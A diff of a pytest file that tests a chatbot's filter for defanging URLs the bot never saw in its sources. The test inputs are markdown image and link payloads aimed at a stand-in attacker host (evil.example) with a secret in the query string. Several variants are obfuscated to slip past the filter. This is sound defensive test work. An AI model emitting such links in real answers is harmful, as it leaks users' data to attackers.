@@ -1,5 +1,7 @@
 """Which calls need the asker, by what the answer has read."""
 
+import re
+
 import pytest
 
 from bot.tools.approval import Reason, approval_for, reason_to_ask
@@ -70,21 +72,72 @@ def test_an_approval_is_of_one_call_with_its_arguments() -> None:
     assert len({key("1", {"a": 1}), key("2", {"a": 1}), key("1", {"a": 2})}) == 3
 
 
+def shown(text: str, size: int = 1000) -> str:
+    """The text, which came in pieces of `size`, after others' words were read."""
+    quiet = Quiet(Taint([SEEN], tainted=True))
+    pieces = [quiet.add(text[at : at + size]) for at in range(0, len(text), size)]
+    return "".join(pieces) + quiet.rest()
+
+
 @pytest.mark.parametrize("size", [1, 3, 1000])
-def test_an_address_that_nobody_saw_is_code_and_a_picture_is_none(size: int) -> None:
-    taint = Taint([SEEN], tainted=True)
-    quiet = Quiet(taint)
+def test_an_address_that_nobody_saw_is_no_link_and_a_picture_is_none(size: int) -> None:
     text = (
         "Look ![x](https://evil.example/?d=secret) or [here](https://evil.example/a_b), at"
         " https://evil.example/?d=secret. Seen: [page](https://example.org/page),"
         " https://example.org/page. Not a link: [1] a! `https://evil.example/c`"
     )
-    shown = "".join(quiet.add(text[at : at + size]) for at in range(0, len(text), size))
-    assert shown + quiet.rest() == (
-        "Look x (`https://evil.example/?d=secret`) or here (`https://evil.example/a_b`), at"
-        " `https://evil.example/?d=secret`. Seen: [page](https://example.org/page),"
-        " https://example.org/page. Not a link: [1] a! `https://evil.example/c`"
+    assert shown(text, size) == (
+        "Look x (`evil.example/?d=secret`) or here (`evil.example/a_b`), at"
+        " `evil.example/?d=secret`. Seen: [page](https://example.org/page),"
+        " https://example.org/page. Not a link: [1] a! ` evil.example/c`"
     )
+
+
+EVIL = "https://evil.example/?d=secret"
+
+
+@pytest.mark.parametrize("size", [1, 1000])
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"({EVIL})",
+        f"<{EVIL}>",
+        f"[a [b] c]({EVIL})",
+        f"[{'a' * 400}]({EVIL})",
+        f'[a]({EVIL} "title (1)")',
+        f"[a]: {EVIL}",
+        f"a ` b {EVIL} c",
+        f"\\`{EVIL}\\`",
+        f"`\n` {EVIL} `",
+        f"x{EVIL}",
+        f"https://{EVIL}",
+        f"hthttps://tps://{EVIL.removeprefix('https://')}",
+        f"{EVIL.upper()}",
+        f"{'x' * 4000}{EVIL}",
+        f"[{EVIL}](https://example.org/page)",
+        f"![a [b] c]({EVIL})",
+        "https://example.org/page]?d=secret",
+        "https://example.org/page'?d=secret",
+        "https://example.org/page`?d=secret",
+    ],
+)
+def test_no_form_makes_an_address_of_what_nobody_saw(text: str, size: int) -> None:
+    assert not re.search(r"https?://\S*(evil|secret)", shown(text, size), re.I)
+    assert "![" not in shown(text, size)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "See https://example.org/page, (https://example.org/page), <https://example.org/page>.",
+        "`https://example.org/page` **https://example.org/page** \u201chttps://example.org/page\u201d",
+        "[1](https://example.org/page)\u3002[2](http://a.example/x?y=1)\u3001",
+        "[https://example.org/page](https://example.org/page)",
+        "Not one: https and http:// and a[1](2), if x < y: f(`https`)!",
+    ],
+)
+def test_what_was_seen_stays_as_it_is(text: str) -> None:
+    assert shown(text) == text
 
 
 def test_a_clean_answer_is_left_as_it_is() -> None:
